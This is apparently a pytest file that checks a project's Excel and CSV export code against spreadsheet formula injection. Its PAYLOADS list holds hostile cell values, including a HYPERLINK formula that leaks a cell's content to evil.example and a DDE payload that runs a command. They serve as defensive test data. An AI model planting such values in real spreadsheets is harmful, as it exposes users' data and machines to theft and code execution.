"""Lists as files: whatever somebody has written, no cell is ever worked out."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from xml.etree import ElementTree as Xml

import pytest

from assessment.printing.tables import SIGNS, Table, write_csv, write_excel

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "\u3000＠SUM(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "{=SUM(A1)}",
    'a";=1+1;"',
    'a; "=1+1"',
]
COLUMNS = 5
FORMULAS = (*SIGNS, "\t", "\r", "\n")
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def table(*rows, **more) -> Table:
    heads = [f"Head {number}" for number in range(len(rows[0]) if rows else 1)]
    return Table("List", heads, iter(rows), **more)


def sheet(*rows, **more) -> tuple[Xml.Element, zipfile.ZipFile]:
    file = io.BytesIO()
    write_excel(table(*rows, **more), file)
    book = zipfile.ZipFile(file)
    return Xml.fromstring(book.read("xl/worksheets/sheet1.xml")), book


def texts(root: Xml.Element) -> list[str]:
    return ["".join(cell.itertext()) for cell in root.iter(f"{MAIN}c") if cell.get("t") == "inlineStr"]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", range(COLUMNS))
def test_no_cell_of_excel_is_a_formula_or_a_link(payload, column):
    row = ["word"] * COLUMNS
    row[column] = payload

    root, book = sheet(row)

    assert list(root.iter(f"{MAIN}f")) == []
    assert list(root.iter(f"{MAIN}hyperlink")) == []
    assert not any(
        "externalLink" in name or (name.endswith(".rels") and "worksheets" in name)
        for name in book.namelist()
    )
    cell = [each for each in root.iter(f"{MAIN}c") if re.fullmatch(r"[A-Z]3", each.get("r"))][column]
    assert cell.get("t") == "inlineStr"
    told = re.sub("_x000D_", "\r", "".join(cell.itertext()))
    assert told == payload


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", range(COLUMNS))
def test_no_cell_of_csv_begins_as_a_formula_would(payload, column):
    row = ["word"] * COLUMNS
    row[column] = payload
    file = io.BytesIO()

    write_csv(table(row), file)

    raw = file.getvalue()
    assert raw.startswith(b"\xef\xbb\xbf")
    cells = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))[1]
    assert not any(cell.startswith(FORMULAS) or cell.strip().startswith(FORMULAS) for cell in cells)
    assert cells[column].replace("'", "") == payload.strip().replace("'", "")
    # Where a semicolon parts cells, a text in quotes stays one.
    for part in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"):
        assert not any(cell.startswith(FORMULAS) for cell in part)


def test_a_title_or_head_is_no_formula_either():
    root, _book = sheet(["x"], above=["=1+1"], below=["=2+2"])

    assert list(root.iter(f"{MAIN}f")) == []
    assert {"=1+1", "=2+2"} <= set(texts(root))


def test_figures_stay_figures_also_below_zero():
    root, _book = sheet([-5, Decimal("2.47"), 0, None])
    file = io.BytesIO()
    write_csv(table([-5, Decimal("2.47"), 0, None]), file)

    values = {
        cell.get("r"): cell.findtext(f"{MAIN}v") for cell in root.iter(f"{MAIN}c") if cell.get("t") is None
    }
    assert values == {"A3": "-5", "B3": "2.47", "C3": "0"}
    assert file.getvalue().decode("utf-8-sig").splitlines()[1] == '-5,2.47,0,""'


def test_times_are_those_of_the_place(settings):
    moment = datetime(2026, 5, 11, 1, 30, tzinfo=UTC)
    file = io.BytesIO()

    write_csv(table([moment, date(2026, 5, 11)]), file)

    assert file.getvalue().decode("utf-8-sig").splitlines()[1] == '"2026-05-11 09:30","2026-05-11"'


def test_a_text_that_no_cell_holds_is_cut_and_not_lost():
    root, _book = sheet(["长" * 40_000])

    assert len(texts(root)[-1]) == 32_767


def test_an_empty_list_has_its_heads():
    file, told = io.BytesIO(), io.BytesIO()

    assert (write_excel(table(), file), write_csv(table(), told)) == (0, 0)
    assert told.getvalue().decode("utf-8-sig") == '"Head 0"\r\n'
